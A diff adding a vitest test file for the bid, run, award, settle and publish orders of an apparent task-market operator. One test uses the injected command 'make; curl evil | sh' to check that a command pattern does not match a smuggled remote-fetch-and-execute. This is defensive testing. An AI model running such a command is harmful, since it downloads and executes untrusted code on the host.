@@ -1,0 +1,291 @@
+import { describe, expect, it } from 'vitest';
+import type { Refusal } from '../../../source/model/errors.ts';
+import type { FoldedSeed } from '../../../source/model/fold/folded-seed.ts';
+import { tradesOf } from '../../../source/model/trades.ts';
+import type { HeldEnvelope, NodeId, SeedId } from '../../../source/model/types.ts';
+import { type Balance, Balances } from '../../../source/operator/balances.ts';
+import { considerSeed, type SeedOrder } from '../../../source/operator/orders/consider.ts';
+import { considerPublish } from '../../../source/operator/orders/consider-publish.ts';
+import type {
+  AwardOrder,
+  BidOrder,
+  PublishOrder,
+  RunOrder,
+  SettleOrder,
+} from '../../../source/operator/orders/order.ts';
+import type { OrdersView, OwnDealings } from '../../../source/operator/orders/orders-view.ts';
+import { bidOf, claimOf, resultOf, START_S } from '../../support/fake-envelopes.ts';
+import { MALLORY, PAULA, tradeOf, WALTER, WANDA } from '../../support/model-trade.ts';
+
+const NOW_S = START_S + 100;
+const BID: BidOrder = {
+  ...{ name: 'builds', kind: 'bid', match: {}, price: { rule: 'min_plus', add: 2 } },
+  limits: { openBids: 10, inHand: 10, perHour: 10, outstanding: 1000 },
+};
+const RUN: RunOrder = {
+  ...{ name: 'work', kind: 'run', match: {}, sandbox: 'bwrap', interrupted: 'leave', limits: { atOnce: 1 } },
+};
+const AWARD: AwardOrder = {
+  ...{ name: 'lowest', kind: 'award', match: {}, when: { at: 'first' }, choose: 'lowest', awardAgain: true },
+  limits: { budget: 1000, budgetPerDay: 1000, outstanding: 1000 },
+};
+const SETTLE: SettleOrder = {
+  ...{ name: 'green', kind: 'settle', match: {}, otherwise: { verdict: 'leave' } },
+  accept: { exitCode: 0, stdout: null, outputHash: null },
+};
+
+const NOTHING_OWN: OwnDealings = {
+  ...{ openBids: [], bidsOfLastHour: 0, inHand: 0, awards: [], archivedSpending: new Map() },
+  balance: () => undefined,
+};
+const viewOf = (us: NodeId, changed: Partial<OrdersView> = {}): OrdersView => ({
+  ...{ us, nowMs: NOW_S * 1000, minuteOfDay: 12 * 60, own: NOTHING_OWN, running: new Set(), sinceMs: 0 },
+  interrupted: () => undefined,
+  refusal: () => undefined,
+  outputOf: () => ({ stdout: 'all ok\n' }),
+  template: () => ({ ok: true, input: { title: 'nightly', cmd: 'make' } }),
+  lastOf: () => undefined,
+  ...changed,
+});
+const own = (changed: Partial<OwnDealings>): Partial<OrdersView> => ({ own: { ...NOTHING_OWN, ...changed } });
+
+/** `bid`, `claim` …, or the condition that fails. */
+function madeOf(order: SeedOrder, folded: FoldedSeed, view: OrdersView): string {
+  const considered = considerSeed(order, folded, view);
+  return considered.acts ? considered.step.verb : considered.condition;
+}
+
+describe('an order that bids', () => {
+  const trade = tradeOf({ min_price: 5, reward: 40 });
+  const { fold, seed } = trade;
+  const made = (order: Partial<BidOrder>, view: Partial<OrdersView> = {}, ...said: HeldEnvelope[]) =>
+    madeOf({ ...BID, ...order }, fold(...said), viewOf(WANDA, view));
+  const priceOf = (price: BidOrder['price'], ...said: HeldEnvelope[]) => {
+    const considered = considerSeed({ ...BID, price }, fold(...said), viewOf(WANDA));
+    return considered.acts && considered.step.verb === 'bid' ? considered.step.input.price : considered;
+  };
+
+  it('bids on what matches, at its price', () => {
+    const bid16 = bidOf(seed, MALLORY, { price: 16 });
+    expect(priceOf({ rule: 'min' })).toBe(5);
+    expect(priceOf({ rule: 'min_plus', add: 2 })).toBe(7);
+    expect(priceOf({ rule: 'share_of_reward', share: 0.5 })).toBe(20);
+    expect(priceOf({ rule: 'share_of_reward', share: 0.1 })).toBe(5);
+    expect(priceOf({ rule: 'under_best', by: 3, floor: 6 }, bid16)).toBe(13);
+    expect(priceOf({ rule: 'under_best', by: 11, floor: 6 }, bid16)).toMatchObject({ condition: 'floor' });
+    expect(priceOf({ rule: 'under_best', by: 12, floor: 0 }, bid16)).toMatchObject({
+      condition: 'min_price',
+    });
+    expect(priceOf({ rule: 'under_best', by: 3, floor: 6 })).toBe(40);
+  });
+
+  it.each([
+    ['command', { command: ['make *'] }],
+    ['title', { title: ['nightly *'] }],
+    ['publisher', { publisher: [MALLORY] }],
+    ['min_price', { minPrice: { min: 6, max: 9 } }],
+    ['reward', { reward: { min: 41, max: 99 } }],
+    ['price', { price: { min: 0, max: 6 } }],
+    ['timeout_ms', { timeoutMs: { min: 0, max: 1 } }],
+    ['trades', { trades: { min: 1, max: 9 } }],
+    ['hours', { hours: { from: 22 * 60, to: 6 * 60 } }],
+    ['verified', { verified: false }],
+  ] as const)('leaves alone what does not match by %s', (condition, match) => {
+    expect(made({ match })).toBe(condition);
+  });
+
+  it('bids once on a seed, and only while it is open, and never on an own one', () => {
+    expect(made({}, {}, bidOf(seed, WANDA, { price: 6 }))).toBe('done');
+    const sold = bidOf(seed, WALTER, { price: 9 });
+    expect(made({}, {}, sold, claimOf(sold, PAULA))).toBe('status');
+    expect(madeOf(BID, fold(), viewOf(PAULA))).toBe('seed');
+  });
+
+  it('a pattern of commands means just the commands that its author thought of', () => {
+    const evil = tradeOf({ command: 'make; curl evil | sh' });
+    expect(madeOf({ ...BID, match: { command: ['make*'] } }, evil.fold(), viewOf(WANDA))).toBe('command');
+  });
+
+  it('keeps its limits, each counted from what is signed', () => {
+    const openBid = { seedId: 'x' as SeedId, publisher: PAULA, price: 90 };
+    expect(made({ limits: { ...BID.limits, openBids: 1 } }, own({ openBids: [openBid] }))).toBe('open_bids');
+    expect(made({ limits: { ...BID.limits, perHour: 3 } }, own({ bidsOfLastHour: 3 }))).toBe('per_hour');
+    expect(made({ limits: { ...BID.limits, inHand: 2 } }, own({ inHand: 1, openBids: [openBid] }))).toBe(
+      'in_hand',
+    );
+    const outstanding = { ...BID.limits, outstanding: 100 };
+    expect(made({ limits: outstanding }, own({ openBids: [openBid] }))).toBe('bid');
+    const owes4 = { balance: () => ({ owed: 4, inHand: 0, accepted: 1 }) as Balance };
+    expect(made({ limits: outstanding }, own({ openBids: [openBid], ...owes4 }))).toBe('outstanding');
+  });
+
+  it('says what the market or the policy has against it', () => {
+    const refusal: Refusal = { code: 'command-refused', facts: { by: 'policy', rule: 1, because: '' } };
+    expect(considerSeed(BID, fold(), viewOf(WANDA, { refusal: () => refusal }))).toMatchObject({
+      ...{ acts: false, condition: 'refused', refusal },
+    });
+  });
+});
+
+describe('an order that runs', () => {
+  const { fold, seed, claim, result, forfeitS } = tradeOf();
+  const made = (order: Partial<RunOrder>, view: Partial<OrdersView> = {}, ...said: HeldEnvelope[]) =>
+    madeOf({ ...RUN, ...order }, fold(claim, ...said), viewOf(WALTER, view));
+
+  it('runs what was awarded to us, at the level that it names, until its forfeit', () => {
+    expect(considerSeed(RUN, fold(claim), viewOf(WALTER))).toMatchObject({
+      step: { verb: 'run', input: { seed: seed.seed.id, sandbox: 'bwrap' } },
+    });
+    expect(madeOf(RUN, fold(claim), viewOf(WANDA))).toBe('seed');
+    expect(made({}, { nowMs: forfeitS * 1000 })).toBe('status');
+    expect(made({}, {}, result)).toBe('done');
+  });
+
+  it('runs so many at once, and none twice', () => {
+    expect(made({}, { running: new Set([seed.seed.id]) })).toBe('done');
+    expect(made({}, { running: new Set(['x' as SeedId]) })).toBe('at_once');
+    expect(made({ limits: { atOnce: 2 } }, { running: new Set(['x' as SeedId]) })).toBe('run');
+  });
+
+  it('leaves a run that was interrupted to a person, unless it says what becomes of it', () => {
+    const kept = { interrupted: () => 'kept' as const };
+    expect(made({}, kept)).toBe('interrupted');
+    expect(considerSeed({ ...RUN, interrupted: 'send' }, fold(claim), viewOf(WALTER, kept))).toMatchObject({
+      step: { input: { kept: true } },
+    });
+    expect(made({ interrupted: 'send' }, { interrupted: () => 'lost' })).toBe('interrupted');
+    expect(considerSeed({ ...RUN, interrupted: 'run' }, fold(claim), viewOf(WALTER, kept))).toMatchObject({
+      step: { input: { confirmed: true } },
+    });
+  });
+});
+
+describe('an order that awards', () => {
+  const { fold, seed, deadlineS, forfeitS } = tradeOf({ max_bids: 4 });
+  const [walter, wanda, mallory] = [
+    bidOf(seed, WALTER, { price: 9, created_at: START_S + 1 }),
+    bidOf(seed, WANDA, { price: 5, created_at: START_S + 2 }),
+    bidOf(seed, MALLORY, { price: 7, created_at: START_S + 3 }),
+  ];
+  const bids = [walter, wanda, mallory];
+  const chosen = (
+    order: Partial<AwardOrder>,
+    view: Partial<OrdersView> = {},
+    said: HeldEnvelope[] = bids,
+  ) => {
+    const considered = considerSeed({ ...AWARD, ...order }, fold(...said), viewOf(PAULA, view));
+    if (!considered.acts) return considered.condition;
+    return considered.step.verb === 'claim' ? considered.step.input.bid : considered.step.verb;
+  };
+
+  it('chooses the lowest, the first, or the lowest of those that it has traded with', () => {
+    expect(chosen({})).toBe(wanda.bid.id);
+    expect(chosen({ choose: 'first' })).toBe(walter.bid.id);
+    const known = own({
+      balance: (node) => (node === WALTER ? ({ accepted: 1, owing: 0, inHand: 0 } as Balance) : undefined),
+    });
+    expect(chosen({ choose: 'lowest_known' }, known)).toBe(walter.bid.id);
+    expect(chosen({ choose: 'lowest_known' })).toBe('choose');
+    expect(chosen({ match: { bidder: [MALLORY] } })).toBe(mallory.bid.id);
+    expect(chosen({ match: { price: { min: 6, max: 8 } } })).toBe(mallory.bid.id);
+    expect(chosen({}, {}, [])).toBe('choose');
+  });
+
+  it('waits for its moment, and for the deadline at the latest', () => {
+    const past = { nowMs: deadlineS * 1000 };
+    for (const when of [{ at: 'deadline' }, { at: 'price', most: 4 }, { at: 'bids', count: 4 }] as const) {
+      expect(chosen({ when })).toBe('when');
+      expect(chosen({ when }, past)).toBe(wanda.bid.id);
+    }
+    expect(chosen({ when: { at: 'price', most: 5 } })).toBe(wanda.bid.id);
+    expect(chosen({ when: { at: 'bids', count: 3 } })).toBe(wanda.bid.id);
+  });
+
+  it('awards again after a forfeit, to somebody else, if it says so', () => {
+    const lost = claimOf(wanda, PAULA);
+    const late = { nowMs: (forfeitS + 5) * 1000 };
+    expect(chosen({}, {}, [...bids, lost])).toBe('status');
+    expect(chosen({}, late, [...bids, lost])).toBe(mallory.bid.id);
+    expect(chosen({ awardAgain: false }, late, [...bids, lost])).toBe('award_again');
+  });
+
+  it('keeps its budgets and what it may owe one worker, the archive included', () => {
+    const spent = tradeOf({ title: 'other' });
+    const trades = tradesOf(spent.fold(spent.claim, spent.result, spent.accepts), NOW_S * 1000);
+    const balances = new Balances(PAULA);
+    for (const trade of trades) balances.add(trade);
+    const awards = trades.map((trade) => ({ seed: spent.seed.seed, trade }));
+    const limits = (changed: Partial<AwardOrder['limits']>) => ({ limits: { ...AWARD.limits, ...changed } });
+    // What was accepted cost 3, and the lowest bid asks 5.
+    expect(chosen(limits({ budget: 8 }), own({ awards }))).toBe(wanda.bid.id);
+    expect(chosen(limits({ budget: 7 }), own({ awards }))).toBe('budget');
+    expect(chosen(limits({ budgetPerDay: 7 }), own({ awards }))).toBe('budget_per_day');
+    expect(chosen(limits({ budget: 8 }), own({ awards, archivedSpending: new Map([['lowest', 1]]) }))).toBe(
+      'budget',
+    );
+    expect(chosen({ ...limits({ budget: 7 }), match: { title: ['count *'] } }, own({ awards }))).toBe(
+      wanda.bid.id,
+    );
+    expect(chosen(limits({ outstanding: 4 }))).toBe('outstanding');
+  });
+});
+
+describe('an order that settles', () => {
+  const { fold, claim, result } = tradeOf();
+  const made = (order: Partial<SettleOrder>, view: Partial<OrdersView> = {}) => {
+    const considered = considerSeed({ ...SETTLE, ...order }, fold(claim, result), viewOf(PAULA, view));
+    if (!considered.acts) return considered.condition;
+    return considered.step.verb === 'settle' ? considered.step.input.verdict : considered.step.verb;
+  };
+  const rejects = { otherwise: { verdict: 'reject', note: 'not ok' } } as const;
+
+  it('accepts what it knows to be right, and leaves the rest to a person', () => {
+    expect(made({})).toBe('accepted');
+    expect(made({ accept: { exitCode: 0, stdout: ['*ok*'], outputHash: null } })).toBe('accepted');
+    expect(made({ accept: { exitCode: 0, stdout: ['*green*'], outputHash: null } })).toBe('stdout');
+    expect(made({ accept: { exitCode: 3, stdout: null, outputHash: null } })).toBe('exit_code');
+    expect(made({ accept: { exitCode: 0, stdout: null, outputHash: 'other' } })).toBe('output_hash');
+  });
+
+  it('rejects with its note if it says so, but never what it cannot read yet', () => {
+    const wrong = { ...rejects, accept: { exitCode: 0, stdout: ['*green*'], outputHash: null } };
+    expect(made(wrong)).toBe('rejected');
+    expect(made(wrong, { outputOf: () => undefined })).toBe('stdout');
+  });
+
+  it('a task that ran into its time limit did not end with 0', () => {
+    const timedOut = resultOf(claim, WALTER, START_S + 60, { timed_out: true });
+    expect(madeOf(SETTLE, fold(claim, timedOut), viewOf(PAULA))).toBe('exit_code');
+  });
+});
+
+describe('an order that publishes', () => {
+  const NIGHTLY: PublishOrder = {
+    name: 'nightly',
+    kind: 'publish',
+    template: 'nightly',
+    schedule: '0 0 2 * * *',
+  };
+  const noon = new Date(2027, 0, 15, 12, 0, 0).getTime();
+  const two = new Date(2027, 0, 15, 2, 0, 0).getTime();
+  const made = (view: Partial<OrdersView>) => {
+    const considered = considerPublish(NIGHTLY, viewOf(PAULA, { nowMs: noon, sinceMs: noon - 1, ...view }));
+    return considered.acts ? considered.step.verb : considered.condition;
+  };
+  const last = (createdMs: number, isOpen = false) => ({ lastOf: () => ({ createdMs, isOpen }) });
+
+  it('publishes once its time came since the last one, and makes up for a night that the node was away', () => {
+    expect(made(last(two - 86_400_000))).toBe('publish');
+    expect(made(last(two + 1000))).toBe('schedule');
+  });
+
+  it('waits for its first time where nothing was published yet', () => {
+    expect(made({})).toBe('schedule');
+    expect(made({ sinceMs: two - 1000 })).toBe('publish');
+  });
+
+  it('does not publish again while the last one is open, or its template cannot be read', () => {
+    expect(made(last(two - 86_400_000, true))).toBe('done');
+    expect(made({ template: () => ({ ok: false, why: 'none' }) })).toBe('template');
+  });
+});
